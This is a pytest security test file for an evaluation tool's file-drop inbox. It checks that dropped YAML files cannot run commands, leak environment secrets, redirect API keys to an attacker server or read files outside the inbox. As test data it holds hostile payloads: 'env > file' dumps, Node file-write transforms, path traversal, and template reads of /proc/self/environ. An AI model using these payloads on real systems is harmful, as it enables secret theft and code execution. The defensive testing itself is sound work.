"""The inbox's trust model, through a real `evalrelay watch` on the embedded default: a
dropped file runs with the operator's configuration only and runs no code, unless the
operator opts in."""

from __future__ import annotations

import contextlib
import http.server
import json
import re
import shlex
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import click
import pytest
import redis

from evalrelay.bridge.cli.watch import dollars_or_none
from evalrelay.bridge.inbox.trust import DEFAULT_BUDGET_USD, InboxTrust, inbox_config_files
from evalrelay.bridge.keys import inflight_key
from evalrelay.bridge.queue.budget import budget_of
from evalrelay.bridge.queue.campaigns import list_campaigns
from evalrelay.bridge.queue.steering import paused
from tests.bridge.queue.test_budget import EACH
from tests.conftest import (
    Processes,
    WriteFiles,
    embedded_env,
    one_turn_cases,
    read_jsonl,
    wait_for,
)
from tests.worker.providers.vendor_server import Reply, openai_chat, serving

OPERATOR_TARGETS = "targets:\n  - {name: main, provider: mock, response: from the operator}\n"


@contextlib.contextmanager
def loopback_recorder() -> Iterator[tuple[str, list[str]]]:
    """An attacker's server on loopback: its base URL, and each request it received."""
    received: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            received.append(f"{self.path} {self.headers.get('Authorization')}")
            self.send_response(500)
            self.end_headers()

        do_GET = do_POST

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/v1", received
    finally:
        server.shutdown()
        server.server_close()


def evil_file(marker: Path) -> str:
    return (
        "evalcases:\n"
        "  - id: plain\n"
        "    input_messages: [{role: user, content: hi}]\n"
        "  - id: runs-code\n"
        "    input_messages: [{role: user, content: hi}]\n"
        "    evaluators:\n"
        f"      - {{type: code, script: [touch, '{marker}']}}\n"
        "  - id: aggregates-with-code\n"
        "    input_messages: [{role: user, content: hi}]\n"
        "    evaluators:\n"
        "      - type: composite\n"
        f"        aggregator: {{type: code_judge, path: 'touch {marker}'}}\n"
        "        evaluators: [{type: contains, value: hi}]\n"
    )


def watch(processes: Processes, inbox: Path, *options: str) -> None:
    """A watcher on the embedded default (its own Redis and in-process worker)."""
    processes.env = {k: v for k, v in processes.env.items() if k != "EVALRELAY_REDIS_URL"}
    processes.start("watch", str(inbox), "--target", "main", *options, name="watch")


def finished(processes: Processes, name: str) -> re.Match[str]:
    """Wait for the watcher to say that `name`'s campaign is complete; its line."""
    pattern = rf"^{re.escape(name)}: campaign (\S+) complete, .*$"
    wait_for(
        lambda: re.search(pattern, processes.log("watch"), re.MULTILINE),
        90,
        f"{name} to complete (log: {processes.log('watch')[-2000:]})",
    )
    found = re.search(pattern, processes.log("watch"), re.MULTILINE)
    assert found
    return found


def test_code_evaluators_in_a_dropped_file_are_refused_at_their_lines_and_never_run(
    project: WriteFiles, processes: Processes, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    root = project({"targets.yaml": OPERATOR_TARGETS, "inbox/.keep": ""})
    inbox = root / "inbox"
    watch(processes, inbox)
    (inbox / "evil.yaml").write_text(evil_file(marker))
    refused = inbox / "failed" / "evil.yaml.error.txt"
    wait_for(refused.exists, 60, "evil.yaml to be refused")
    (inbox / "good.yaml").write_text(one_turn_cases(2))
    finished(processes, "good.yaml")  # the watcher went on, and had dealt with evil.yaml

    error = refused.read_text()
    dropped = inbox / "evil.yaml"  # the errors name the file as it was dropped
    assert f"{dropped}:7:9: case 'runs-code': evaluator code runs a command" in error, error
    assert (
        f"{dropped}:12:46: case 'aggregates-with-code': `path`: a code_judge aggregator runs a"
        in error
    ), error
    assert error.count("--allow-code") == 2
    assert "evil.yaml: campaign" not in processes.log("watch")  # no campaign, no job
    assert not marker.exists()


def test_allow_code_runs_them_boxed(
    project: WriteFiles, processes: Processes, tmp_path: Path
) -> None:
    """Under --allow-code the script and the aggregator run, in the code box: `touch`
    succeeds (they ran, and printed no verdict), but in the box's own /tmp, not on the
    host."""
    marker = tmp_path / "ran"
    root = project({"targets.yaml": OPERATOR_TARGETS, "inbox/.keep": ""})
    inbox = root / "inbox"
    watch(processes, inbox, "--allow-code")
    (inbox / "evil.yaml").write_text(evil_file(marker))
    campaign = finished(processes, "evil.yaml")[1]
    results = {r["case_id"]: r for r in read_jsonl(root / "results" / f"{campaign}.jsonl")}
    assert results["plain"]["status"] == "ok"
    for case in ("runs-code", "aggregates-with-code"):
        assert "printed no valid verdict" in results[case]["error"]["message"], results[case]
    assert not marker.exists()


@pytest.mark.parametrize(
    "hidden", [".agentv/targets.yaml", "targets.yaml", "team/targets.yml", "evalrelay.yaml"]
)
def test_configuration_hidden_in_the_inbox_refuses_the_files_it_would_configure(
    project: WriteFiles, processes: Processes, tmp_path: Path, hidden: str
) -> None:
    """The attack: a hidden targets file that redefines the operator's target as a command.
    The file it would configure is refused, naming it; a file it does not reach runs on the
    operator's target."""
    marker = tmp_path / "ran"
    redefined = f"targets:\n  - {{name: main, provider: cli, command: [touch, '{marker}']}}\n"
    root = project({"targets.yaml": OPERATOR_TARGETS, "inbox/.keep": "", "inbox/main/.keep": ""})
    inbox = root / "inbox"
    (inbox / hidden).parent.mkdir(parents=True, exist_ok=True)
    (inbox / hidden).write_text(redefined if "targets" in hidden else "default_target: main\n")
    watch(processes, inbox)
    folder = Path(hidden).parent if Path(hidden).parent.name != ".agentv" else Path()
    (inbox / folder / "drop.yaml").write_text(one_turn_cases(1))
    dropped_at = folder / "drop.yaml"
    refused = inbox / "failed" / f"{dropped_at}.error.txt"
    wait_for(refused.exists, 60, f"{dropped_at} to be refused")
    error = refused.read_text()
    line = f"{inbox / dropped_at}:1:1: {hidden} in the inbox would configure this file"
    assert line in error, error
    assert "--trust-inbox-config" in error
    if hidden.startswith("team/"):  # a file elsewhere in the inbox is not reached by it
        (inbox / "main" / "fine.yaml").write_text(one_turn_cases(1))
        finished(processes, "main/fine.yaml")
        results = next((root / "results").glob("*.jsonl")).read_text()
        assert '"answer":"from the operator"' in results
    assert not marker.exists()


def test_trust_inbox_config_reads_it(
    project: WriteFiles, processes: Processes, private_home: Path
) -> None:
    root = project({"targets.yaml": OPERATOR_TARGETS, "inbox/.keep": ""})
    inbox = root / "inbox"
    (inbox / "targets.yaml").write_text(
        "targets:\n  - {name: main, provider: mock, response: from the inbox}\n"
    )
    watch(processes, inbox, "--trust-inbox-config")
    (inbox / "drop.yaml").write_text(one_turn_cases(1))
    campaign = finished(processes, "drop.yaml")[1]
    assert '"answer":"from the inbox"' in (root / "results" / f"{campaign}.jsonl").read_text()


def test_inbox_config_files_are_found_from_the_drop_up_to_the_inbox_only(tmp_path: Path) -> None:
    inbox = tmp_path / "inbox"
    (inbox / "a" / "b").mkdir(parents=True)
    (tmp_path / "targets.yaml").write_text("")  # the operator's: outside the inbox
    (inbox / "targets.yaml").write_text("")
    (inbox / "a" / "evalrelay.yaml").write_text("")
    (inbox / "elsewhere").mkdir()
    (inbox / "elsewhere" / "targets.yaml").write_text("")
    found = inbox_config_files(inbox, inbox / "a" / "b" / "x.yaml")
    assert found == [inbox / "a" / "evalrelay.yaml", inbox / "targets.yaml"]
    assert inbox_config_files(inbox, inbox / "elsewhere" / "x.yaml") == [
        inbox / "elsewhere" / "targets.yaml",
        inbox / "targets.yaml",
    ]
    assert InboxTrust().allow_code is False and InboxTrust().inbox_config is False


SECRETS = {
    "OPENAI_API_KEY": "sk-openai-0123456789abcdef",
    "ANTHROPIC_API_KEY": "sk-ant-0123456789abcdef",
    "DATABASE_URL": "postgres://app:db-pass-0123@db/app",
}
"""The watcher's (and its in-process worker's) secrets, which no dropped file may reach."""

PROMPTFOO_SCHEMA = "$schema: https://promptfoo.dev/config-schema.json\n"


def attacks(leak: Path, marker: Path, attacker: str) -> dict[str, tuple[str, list[str]]]:
    """Each attack from the field, as the file dropped and what its refusal must say."""
    touch = f"import pathlib\ndef build(*args):\n    pathlib.Path({str(marker)!r}).touch()\n"
    one_test = "prompts: ['{{q}}']\nproviders: [main]\ntests:\n  - vars: {q: hi}\n"
    return {
        "transform.yaml": (
            "evalcases:\n"
            "  - id: a\n"
            "    input_messages: [{role: user, content: hi}]\n"
            "    evaluators:\n"
            "      - type: contains\n"
            "        value: hello\n"
            f"        transforms: [{{command: [sh, -c, 'env > {leak}; echo {{}}']}}]\n",
            ["7:21: case 'a': `transforms`: an answer transform runs a command on the workers"],
        ),
        "pf-transform.yaml": (
            PROMPTFOO_SCHEMA + one_test + "    assert:\n"
            "      - type: equals\n"
            "        value: x\n"
            f"        transform: require('fs').writeFileSync('{leak}', 'x')\n",
            ["`transforms`: an answer transform runs a command on the workers"],
        ),
        "pf-options-transform.yaml": (
            PROMPTFOO_SCHEMA + one_test + "defaultTest:\n"
            f"  options: {{transform: \"require('fs').writeFileSync('{leak}', 'x')\"}}\n",
            ["7:24: `transform`: a transform runs code on the workers"],
        ),
        "pf-file-transform.yaml": (
            PROMPTFOO_SCHEMA + one_test + "    assert:\n"
            "      - {type: equals, value: x, transform: 'file://tx.py:build'}\n",
            ["`transforms`: an answer transform runs a command on the workers"],
        ),
        "pf-keyed-provider.yaml": (
            PROMPTFOO_SCHEMA + "prompts: ['{{q}}']\n"
            "providers:\n"
            "  - id: openai:chat:gpt-4o\n"
            f"    config: {{apiBaseUrl: '{attacker}', apiKeyEnvar: ANTHROPIC_API_KEY, "
            "max_tokens: 1000000}\n"
            "tests:\n  - vars: {q: hi}\n",
            ["5:5: `config` configures a provider (its server, key variable, model or limits)"],
        ),
        "pf-provider-id.yaml": (
            PROMPTFOO_SCHEMA + "prompts: ['{{q}}']\nproviders: [openai:chat:gpt-4o]\n"
            "tests:\n  - vars: {q: hi}\n",
            ["unknown target 'openai:chat:gpt-4o'"],
        ),
        "workspace-command.yaml": (
            "evalcases:\n"
            "  - id: a\n"
            "    input_messages: [{role: user, content: hi}]\n"
            f"    evaluators: [{{type: workspace_command, command: 'env > {leak}'}}]\n",
            ["4:18: case 'a': evaluator workspace_command runs a command on the workers"],
        ),
        "pf-generator.yaml": (
            PROMPTFOO_SCHEMA + "prompts: ['{{q}}']\nproviders: [main]\n"
            "tests: file://gen.py:build\n",
            ["4:8: `tests`: test generator file://gen.py:build is code the loader would call"],
        ),
        "pf-prompt-function.yaml": (
            PROMPTFOO_SCHEMA + "prompts: [file://gen.py:build]\nproviders: [main]\n"
            "tests:\n  - vars: {q: hi}\n",
            ["2:11: `prompts`: prompt function file://gen.py:build is code the loader"],
        ),
        "repeats.yaml": (
            "repeats: 1000\n" + one_turn_cases(20),
            [
                "1:1: this file makes 20000 jobs (cases times repeats times targets), over "
                "the 10000 a dropped file may make"
            ],
        ),
        "targets-peek.yaml": (
            "evalcases:\n"
            "  - id: a\n"
            "    input_messages: [{role: user, content: [{type: file, value: ../targets.yaml}]}]\n",
            ["3:65: case 'a': file '../targets.yaml' resolves to", "outside the inbox"],
        ),
        "results-peek.yaml": (
            "evalcases:\n"
            "  - id: a\n"
            "    input_messages: [{role: user, content: [{type: file, "
            "value: ../results/earlier.jsonl}]}]\n",
            ["file '../results/earlier.jsonl' resolves to", "outside the inbox"],
        ),
        "template-read.yaml": (
            "prompts: [\"{{ env.project.root.joinpath('/proc/self/environ').read_text() "
            '| reverse | join }}"]\nproviders: [main]\ntests:\n  - {id: a, vars: {q: hi}}\n',
            ["1:11: template error"],
        ),
        "template-write.yaml": (
            "prompts: [\"{{ env.project.root.joinpath('targets.yaml').write_text('x') }}\"]\n"
            "providers: [main]\ntests:\n  - {id: a, vars: {q: hi}}\n",
            ["1:11: template error"],
        ),
    } | {"gen.py": (touch, []), "tx.py": (touch, [])}


def test_each_attack_through_the_real_watcher_is_refused_and_nothing_runs(
    project: WriteFiles, processes: Processes, tmp_path: Path
) -> None:
    """The doors found open by an attacker who can only drop files, replayed against a
    real watcher holding real-looking keys: each file lands in failed/ with its reason,
    no code ran, no request left, and a plain file dropped among them still runs."""
    leak, marker = tmp_path / "leak.txt", tmp_path / "ran"
    root = project(
        {
            "targets.yaml": OPERATOR_TARGETS,
            "results/earlier.jsonl": '{"answer": "another campaign"}\n',
            "inbox/.keep": "",
        }
    )
    inbox = root / "inbox"
    with loopback_recorder() as (attacker, requests):
        dropped = attacks(leak, marker, attacker)
        for name, (text, _) in dropped.items():
            if name.endswith(".py"):
                (inbox / name).write_text(text)
        processes.env.update(SECRETS)
        watch(processes, inbox)
        for name, (text, _) in dropped.items():
            if name.endswith(".yaml"):
                (inbox / name).write_text(text)
        refused = {
            name: inbox / "failed" / f"{name}.error.txt"
            for name in dropped
            if name.endswith(".yaml")
        }
        wait_for(
            lambda: all(p.exists() for p in refused.values()),
            120,
            f"every attack to be refused (log: {processes.log('watch')[-3000:]})",
        )
        (inbox / "good.yaml").write_text(one_turn_cases(1))
        finished(processes, "good.yaml")
        for name, path in refused.items():
            error = path.read_text()
            for said in dropped[name][1]:
                assert said in error, f"{name}: {error}"
        assert requests == []
    assert not leak.exists() and not marker.exists()
    assert (root / "targets.yaml").read_text() == OPERATOR_TARGETS
    assert "campaign" not in "".join(
        line for line in processes.log("watch").splitlines() if "good.yaml" not in line
    )
    for secret in SECRETS.values():
        for path in root.rglob("*"):
            assert not path.is_file() or secret not in path.read_text(errors="replace"), path


def test_validate_untrusted_refuses_and_writes_nothing(
    project: WriteFiles, tmp_path: Path, private_home: Path
) -> None:
    """`validate --untrusted` checks files as the watcher does: the attacks are refused,
    nothing they name runs, and no file appears anywhere under the project."""
    leak, marker = tmp_path / "leak.txt", tmp_path / "ran"
    root = project({"targets.yaml": OPERATOR_TARGETS, "results/earlier.jsonl": "{}\n"})
    pull = root / "pull"
    pull.mkdir()
    dropped = attacks(leak, marker, "http://127.0.0.1:9/v1")
    for name, (text, _) in dropped.items():
        (pull / name).write_text(text)
    before = sorted(root.rglob("*"))
    done = subprocess.run(
        [sys.executable, "-m", "evalrelay", "validate", "--untrusted", str(pull)],
        capture_output=True,
        text=True,
        env=embedded_env(private_home) | SECRETS,
        timeout=120,
        check=False,
    )
    assert done.returncode == 1, done.stdout + done.stderr
    for name, (_, said) in dropped.items():
        if name.endswith(".yaml") and name not in ("pf-provider-id.yaml", "repeats.yaml"):
            for part in said:
                assert part in done.stdout, f"{name}: {done.stdout}"
    assert "pf-provider-id.yaml" in done.stdout and "unknown target" in done.stdout
    assert sorted(root.rglob("*")) == before
    assert not leak.exists() and not marker.exists()


def test_allowed_code_runs_boxed_and_reaches_no_secret(
    project: WriteFiles, processes: Processes, tmp_path: Path
) -> None:
    """With --allow-code the transform, the script evaluator and the aggregator of a
    dropped file run, each in the code box: as `nobody`, with none of the watcher's keys
    in its environment, and neither the operator's targets file beside the inbox nor a
    host file within reach. Each answers as if all went well only when it saw none."""
    host = tmp_path / "host-only.txt"
    host.write_text("the worker's file\n")
    root = project({"targets.yaml": OPERATOR_TARGETS, "inbox/.keep": ""})
    inbox = root / "inbox"
    secret = [*SECRETS.values(), "EVALRELAY_REDIS_URL", "EVALRELAY_HOME"]
    secrets = " ".join(f"-e {shlex.quote(v)}" for v in secret)
    boxed = (
        f'[ "$(id -u)" = 65534 ] && ! env | grep -qF {secrets} '
        f"&& ! cat {root / 'targets.yaml'} {host} >/dev/null 2>&1"
    )
    verdict = json.dumps({"score": 1})

    def reply(good: str, bad: str) -> str:
        return f"if {boxed}; then echo {shlex.quote(good)}; else echo {shlex.quote(bad)}; fi"

    case = {
        "id": "a",
        "input_messages": [{"role": "user", "content": "hi"}],
        "evaluators": [
            {
                "type": "contains",
                "value": "operator",
                "transforms": [
                    {"command": ["sh", "-c", reply('{"output": "operator"}', '{"output": "x"}')]}
                ],
            },
            {"type": "code_judge", "script": reply(verdict, '{"score": 0}')},
            {
                "type": "composite",
                "aggregator": {"type": "code_judge", "path": reply(verdict, '{"score": 0}')},
                "evaluators": [{"type": "contains", "value": "operator"}],
            },
        ],
    }
    processes.env.update(SECRETS)
    watch(processes, inbox, "--allow-code")
    (inbox / "code.yaml").write_text(json.dumps({"evalcases": [case]}))
    campaign = finished(processes, "code.yaml")[1]
    (result,) = read_jsonl(root / "results" / f"{campaign}.jsonl")
    assert result["status"] == "ok", result
    assert [e["score"] for e in result["evaluator_results"]] == [1.0, 1.0, 1.0], result


def test_a_slow_file_lets_a_file_dropped_after_it_go_first(
    project: WriteFiles, processes: Processes
) -> None:
    """One file whose templates take a minute to render cannot hold the inbox: a file
    dropped while it loads is queued and complete before it."""
    tests = "".join(f"  - id: t{i}\n    vars: {{q: hi}}\n" for i in range(200))
    root = project(
        {
            "evalrelay.yaml": (
                "template_limits: {seconds: 600, iterations: 10000000}\n"
                "load_limits: {seconds: 600}\n"
            ),
            "targets.yaml": OPERATOR_TARGETS,
            "inbox/.keep": "",
        }
    )
    inbox = root / "inbox"
    watch(processes, inbox)
    (inbox / "slow.yaml").write_text(
        'prompts:\n  - "{% for i in range(400000) %}{% endfor %}{{ q }}"\n'
        "providers: [main]\ntests:\n" + tests
    )
    time.sleep(5)  # settled, and loading
    dropped = time.monotonic()
    (inbox / "good.yaml").write_text(one_turn_cases(1))
    finished(processes, "good.yaml")
    assert time.monotonic() - dropped < 45
    assert "slow.yaml: campaign" not in processes.log("watch")


def test_a_dropped_files_campaign_stops_at_the_budget_per_file(
    project: WriteFiles, processes: Processes, client: redis.Redis
) -> None:
    """A file of 20 cases against a priced target, under a budget per file that covers 4
    answers: the campaign pauses, saying why, after 4 calls. Another watcher, given no
    budget option, gives each campaign the default one."""
    with serving(Reply(openai_chat(), delay=0.1)) as server:
        root = project(
            {
                "targets.yaml": "targets:\n  - {name: mini, provider: openai-compatible, "
                f'model: gpt-4o-mini, base_url: "{server.url}/v1"}}\n',
                "inbox/.keep": "",
            }
        )
        processes.worker(client, "w@test", "--concurrency", "2", extra_env={"OPENAI_API_KEY": "k"})
        budget = f"{4 * EACH:.10f}"
        inbox = root / "inbox"
        processes.start("watch", str(inbox), "--target", "mini", "--budget-per-file", budget,
                        name="watch")  # fmt: skip
        (inbox / "many.yaml").write_text(one_turn_cases(20))
        wait_for(lambda: list_campaigns(client), 30, "the campaign")
        (info,) = list_campaigns(client)
        wait_for(lambda: paused(client, info.campaign_id), 60, "the budget to pause it")
        wait_for(lambda: client.zcard(inflight_key()) == 0, 10, "the calls under way")
        assert len(server.seen) == 4
        state = paused(client, info.campaign_id)
        assert state is not None and state.reason == "budget reached"
        set_by = budget_of(client, info.campaign_id)
        assert set_by is not None and set_by.limit_usd == pytest.approx(4 * EACH)
    other = root / "other-inbox"
    other.mkdir()
    processes.start("watch", str(other), "--target", "mini", name="other")
    (other / "one.yaml").write_text(one_turn_cases(1))
    wait_for(lambda: len(list_campaigns(client)) == 2, 30, "the second campaign")
    (second,) = [c for c in list_campaigns(client) if c.campaign_id != info.campaign_id]
    default = budget_of(client, second.campaign_id)
    assert default is not None and default.limit_usd == DEFAULT_BUDGET_USD


def test_budget_per_file_takes_dollars_or_none() -> None:
    assert dollars_or_none("none") is None and dollars_or_none("2.5") == 2.5
    for bad in ("0", "-1", "ten"):
        with pytest.raises(click.BadParameter, match="positive number of dollars"):
            dollars_or_none(bad)
